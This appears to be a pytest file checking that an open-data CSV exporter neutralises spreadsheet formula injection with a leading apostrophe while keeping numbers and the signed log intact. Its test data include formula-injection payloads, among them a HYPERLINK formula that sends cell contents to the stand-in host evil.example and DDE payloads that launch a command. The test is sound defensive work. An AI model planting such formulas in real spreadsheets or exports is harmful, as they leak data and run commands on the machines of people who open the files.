"""Open-data CSVs: text a spreadsheet would run as a formula is written as text (a leading
apostrophe), numbers stay numbers, and the signed log keeps the text exactly as signed."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from publisher.opendata import text_cell, write_data_package
from publisher.records import read_records
from tests.committee import Committee

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看明细")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"]


@pytest.mark.parametrize("value", [*FORMULAS, "\r=1+1"])
def test_formula_text_gets_one_apostrophe(value: str) -> None:
    assert text_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["普通文字", "1380000", "2025-03-07", "'已有引号", "a=b", " =1"])
def test_other_text_is_unchanged(value: str) -> None:
    assert text_cell(value) == value


def test_csv_cells_read_back_as_text_and_the_log_is_unchanged(committee: Committee,
                                                              tmp_path: Path) -> None:
    c = committee
    c.record(["chair", "supervisor"], "member.admitted", {
        "member_id": "evil", "name": FORMULAS[0], "role": "member",
        "public_key": c.keys["spare"].public_b64, "term_start": "2024-01-01",
        "term_end": "2027-12-31"})
    for n, text in enumerate(FORMULAS):
        c.record("member", "disclosure.published", {
            "disclosure_id": f"D{n}", "category": "other", "period": "2025-03",
            "title": text, "body": text})
    c.record("spare", "disclosure.published", {
        "disclosure_id": "D9", "category": "other", "period": "2025-03", "title": "由新成员发布",
        "body": "正文"})
    c.fund()
    c.donate("d1", 100)

    entries = list(c.app.entries(c.community))
    package = write_data_package(list(read_records(entries)), tmp_path, "sunlight-test", "测试")

    rows = list(csv.DictReader(io.StringIO((tmp_path / "disclosure.published.csv").read_text(
        encoding="utf-8"))))
    by_id = {r["disclosure_id"]: r for r in rows}
    for n, text in enumerate(FORMULAS):
        assert by_id[f"D{n}"]["title"] == "'" + text and by_id[f"D{n}"]["body"] == "'" + text
    assert by_id["D9"]["signer_name"] == "'" + FORMULAS[0]
    assert by_id["D9"]["title"] == "由新成员发布"
    members = list(csv.DictReader(io.StringIO((tmp_path / "member.admitted.csv").read_text(
        encoding="utf-8"))))
    assert [m["name"] for m in members if m["member_id"] == "evil"] == ["'" + FORMULAS[0]]
    donations = list(csv.DictReader(io.StringIO((tmp_path / "fund.donation_recorded.csv")
                                                .read_text(encoding="utf-8"))))
    assert donations[0]["amount_fen"] == "100"  # numbers are not touched

    # The signed log keeps every text exactly as signed.
    signed = [json.loads(json.loads(entry)["statement"])["body"] for _, entry in entries]
    assert [b["title"] for b in signed if b.get("disclosure_id", "").startswith("D")][:5] == \
        FORMULAS
    assert entries == list(c.app.entries(c.community))

    description = json.loads(package.read_text(encoding="utf-8"))["description"]
    assert "单引号" in description and "公式" in description
